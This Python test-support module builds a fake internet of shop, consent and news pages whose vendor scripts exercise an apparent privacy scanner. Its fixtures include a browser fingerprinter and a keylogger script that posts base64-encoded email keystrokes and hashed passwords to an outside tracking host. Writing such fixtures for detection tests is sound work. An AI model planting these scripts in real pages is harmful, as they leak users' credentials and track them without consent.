"""The fake internet's sites: a shop whose vendors' scripts behave at run time as real ones do."""

from __future__ import annotations

from tests.support.internet import Internet, pixel, script
from tests.support.site import Page, html

HOSTS = (
    "shop.test",
    "www.googletagmanager.com",
    "www.google-analytics.com",
    "www.facebook.com",
    "fp.metrics.test",
    "static.hotjar.com",
    "in.hotjar.com",
    "plain.test",
    "consent.test",
    "cdn.cookielaw.org",
    "connect.facebook.net",
    "news.test",
    "cdn.recorder.test",
    "app.test",  # the web apps browser steps are tested against (apps.py)
)
SHOP = "https://shop.test/"
CONSENT = "https://consent.test/"  # a OneTrust banner, and a Meta pixel that does not wait for it
NEWS = "https://news.test/"  # an unnamed IAB TCF consent manager, analytics, and a session recorder

SHOP_PAGE = """<!doctype html><html><head><title>Shop</title>
<script src="https://www.googletagmanager.com/gtm.js?id=GTM-TEST1"></script>
<script src="https://fp.metrics.test/fp.js"></script>
<script src="https://static.hotjar.com/keys.js"></script>
</head><body>
<form action="/subscribe" method="post"><input id="email" type="email" name="email">
<input type="password" name="pw"></form>
<a href="/privacy">Privacy policy</a>
</body></html>"""

# A tag manager: injects an analytics script and a pixel, neither named in the page.
GTM = """(function () {
  var s = document.createElement('script');
  s.src = 'https://www.google-analytics.com/analytics.js';
  document.head.appendChild(s);
  new Image().src = 'https://www.facebook.com/tr?id=1234&ev=PageView';
})();"""

# An analytics script: a first-party cookie written by a third-party script, storage, a beacon.
ANALYTICS = """document.cookie = '_ga=GA1.1.42.42; max-age=63072000; path=/; SameSite=Lax';
localStorage.setItem('_ga_session', 's1');
sessionStorage.setItem('_ga_hit', '1');
indexedDB.open('ga-store');
navigator.sendBeacon('https://www.google-analytics.com/g/collect?v=2&tid=G-TEST', 'en=page_view');"""

FONTS = ", ".join(f"'Font{index}'" for index in range(30))
# A fingerprinter: canvas with text, installed fonts, the GPU's name, an audio signal, a navigator sweep.
FINGERPRINTER = f"""(function () {{
  var c = document.createElement('canvas'); c.width = 200; c.height = 50;
  var x = c.getContext('2d'); x.textBaseline = 'top'; x.font = '14px Arial';
  x.fillText('Cwm fjordbank glyphs vext quiz', 2, 2); c.toDataURL();
  [{FONTS}].forEach(function (f) {{ x.font = '12px ' + f; x.measureText('mmmmmmmmmmlli'); }});
  var gl = document.createElement('canvas').getContext('webgl');
  if (gl) gl.getParameter(37446);
  var a = new OfflineAudioContext(1, 4410, 44100); var o = a.createOscillator();
  o.connect(a.destination); o.start(0); a.startRendering();
  var n = navigator;
  [n.userAgent, n.platform, n.language, n.languages, n.hardwareConcurrency, n.deviceMemory, n.plugins,
   n.mimeTypes, n.doNotTrack, n.maxTouchPoints, n.vendor, n.cookieEnabled, screen.width, screen.colorDepth];
}})();"""

# A key logger: what is typed leaves before any submit, base64 on each keystroke, hashed on leaving the field.
KEYS = """document.addEventListener('input', function (e) {
  if (e.target.type === 'email') {
    var body = JSON.stringify({f: e.target.name, v: btoa(e.target.value)});
    fetch('https://in.hotjar.com/k', {method: 'POST', body: body});
  }
});
document.addEventListener('focusout', async function (e) {
  if (e.target.type !== 'password') return;
  var d = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(e.target.value));
  var hex = Array.from(new Uint8Array(d)).map(function (b) { return b.toString(16).padStart(2, '0'); }).join('');
  new Image().src = 'https://in.hotjar.com/p?h=' + hex;
});"""


OT_STUB = "https://cdn.cookielaw.org/scripttemplates/otSDKStub.js"
CONSENT_PAGE = f"""<!doctype html><html><head><title>Consent</title>
<script src="{OT_STUB}" data-domain-script="0f1e2d3c"></script>
<script>!function(f,b,e,v,n,t,s){{if(f.fbq)return;n=f.fbq=function(){{n.callMethod?
n.callMethod.apply(n,arguments):n.queue.push(arguments)}};if(!f._fbq)f._fbq=n;n.push=n;n.loaded=!0;n.queue=[];
t=b.createElement(e);t.async=!0;t.src=v;s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}}(window,
document,'script','https://connect.facebook.net/en_US/fbevents.js');fbq('init','1234567890123456');</script>
</head><body><a href="/privacy">Privacy policy</a></body></html>"""

# A consent manager before any answer, as OneTrust's is: its globals, the IAB TCF and GPP APIs (whose ping
# answers at once), a banner on show. Accepting would report to the CDN: a scan must never do it.
ONETRUST = """window.OneTrust = { IsAlertBoxClosed: function () { return false; } };
window.Optanon = window.OneTrust;
window.__tcfapi = function (command, version, callback) {
  if (command === 'ping') callback({gdprApplies: true, cmpLoaded: true, cmpStatus: 'loaded',
    displayStatus: 'visible', apiVersion: '2.2', cmpId: 28, gvlVersion: 3, tcString: 'never-stored'});
};
window.__gpp = function (command, callback) {
  if (command === 'ping') callback({gppVersion: '1.1', cmpStatus: 'loaded', cmpDisplayStatus: 'visible',
    signalStatus: 'not ready', supportedAPIs: ['2:tcfeuv2'], cmpId: 28, gppString: 'never-stored'}, true);
};
document.addEventListener('DOMContentLoaded', function () {
  var banner = document.createElement('div');
  banner.id = 'onetrust-banner-sdk';
  banner.innerHTML = '<p>We use cookies.</p><button id="onetrust-accept-btn-handler">Accept all</button>';
  document.body.appendChild(banner);
  banner.querySelector('button').addEventListener('click', function () {
    new Image().src = 'https://cdn.cookielaw.org/consent?accepted=1';
  });
});"""
FBEVENTS = "new Image().src = 'https://www.facebook.com/tr?id=1234567890123456&ev=PageView';"

NEWS_PAGE = """<!doctype html><html><head><title>News</title>
<script>window.__tcfapi = function (command, version, callback) {
  (window.__tcfapiQueue = window.__tcfapiQueue || []).push([command, version, callback]);
};</script>
<script src="https://www.google-analytics.com/analytics.js"></script>
<script src="https://cdn.recorder.test/record.js"></script>
<script src="/app.js"></script>
</head><body><div id="Cookiebot">An element named like a consent manager's global</div>
<a href="/privacy">Privacy policy</a></body></html>"""
# What session recorders do: watch the whole document, and the pointer and keys page-wide.
RECORDER = """new MutationObserver(function () {}).observe(document, {childList: true, subtree: true});
document.addEventListener('mousemove', function () {}, true);
document.addEventListener('input', function () {}, true);
window.addEventListener('scroll', function () {});"""


def build_sites(internet: Internet) -> None:
    internet.add(SHOP, html(SHOP_PAGE, ("Set-Cookie", "session=abc; Path=/; Secure; HttpOnly; SameSite=Lax")))
    internet.add("https://shop.test/favicon.ico", Page(204))
    internet.add("https://www.googletagmanager.com/gtm.js", script(GTM, ("Cache-Control", "public, max-age=3600")))
    internet.add("https://www.google-analytics.com/analytics.js", script(ANALYTICS))
    internet.add("https://www.google-analytics.com/g/collect", Page(204))
    internet.add(
        "https://www.facebook.com/tr",
        pixel(("Set-Cookie", "fr=x; Domain=.facebook.com; Path=/; Max-Age=7776000; Secure; SameSite=None")),
    )
    internet.add("https://fp.metrics.test/fp.js", script(FINGERPRINTER))
    internet.add("https://static.hotjar.com/keys.js", script(KEYS))
    internet.add("https://in.hotjar.com/k", Page(204))
    internet.add("https://in.hotjar.com/p", pixel())
    internet.add("http://plain.test/", html("<p>plain</p>"))
    internet.add(CONSENT, html(CONSENT_PAGE))
    internet.add("https://consent.test/favicon.ico", Page(204))
    # OneTrust's CDN sits behind Cloudflare, whose bot cookie is the consent manager's own.
    bot_cookie = ("Set-Cookie", "__cf_bm=x; Domain=.cookielaw.org; Path=/; Secure; SameSite=None")
    internet.add(OT_STUB, script(ONETRUST, bot_cookie))
    internet.add("https://cdn.cookielaw.org/consent", pixel())
    internet.add("https://connect.facebook.net/en_US/fbevents.js", script(FBEVENTS))
    internet.add(NEWS, html(NEWS_PAGE))
    internet.add("https://news.test/favicon.ico", Page(204))
    internet.add("https://cdn.recorder.test/record.js", script(RECORDER))
    internet.add("https://news.test/app.js", script(RECORDER))
